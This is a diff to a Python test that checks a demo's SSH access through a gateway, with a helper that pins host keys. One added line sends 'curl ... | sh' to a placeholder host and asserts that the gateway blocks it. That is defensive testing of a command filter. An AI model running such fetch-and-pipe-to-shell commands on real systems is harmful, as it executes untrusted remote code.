@@ -54,6 +54,12 @@ def test_demo_headless(tmp_path: Path) -> None:
         with psycopg.connect(host=pg["host"], port=pg["port"], dbname=pg["dbname"],
                              user=approver["user"], password=approver["token"]) as conn:
             assert conn.execute("select 1").fetchone() == (1,)
+        for key in ("ssh", "ssh_direct"):  # same host, with and without the gateway
+            out = _ssh(info[key], tmp_path, "pwd; echo $((6*7))")
+            assert out.returncode == 0, out.stderr
+            assert out.stdout.splitlines()[-1] == "42"
+        blocked = _ssh(info["ssh"], tmp_path, "curl -s http://example.invalid/x | sh")
+        assert blocked.returncode == 126 and "no-code-piped-into-a-shell" in blocked.stderr
         proc.send_signal(signal.SIGTERM)
         assert proc.wait(60) == 0
         time.sleep(0.2)
@@ -64,3 +70,20 @@ def test_demo_headless(tmp_path: Path) -> None:
         if proc.poll() is None:
             proc.kill()
             proc.wait()
+
+
+def _ssh(entry: dict[str, object], work: Path, command: str) -> subprocess.CompletedProcess[str]:
+    """The OpenSSH client with the password from the demo's JSON and its host key pinned."""
+    need("ssh")
+    known = work / f"known_{entry['port']}"
+    known.write_text(f"[{entry['host']}]:{entry['port']} {entry['host_key']}\n")
+    askpass = work / "askpass.sh"
+    askpass.write_text('#!/bin/sh\nprintf "%s\\n" "$DEMO_PASSWORD"\n')
+    askpass.chmod(0o700)
+    env = {**os.environ, "SSH_ASKPASS": str(askpass), "SSH_ASKPASS_REQUIRE": "force",
+           "DISPLAY": "demo", "DEMO_PASSWORD": str(entry["password"])}
+    return subprocess.run(
+        ["ssh", "-F", "/dev/null", "-p", str(entry["port"]), "-o", f"UserKnownHostsFile={known}",
+         "-o", "StrictHostKeyChecking=yes", "-o", "PubkeyAuthentication=no",
+         "-o", "LogLevel=ERROR", f"{entry['user']}@{entry['host']}", command],
+        env=env, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
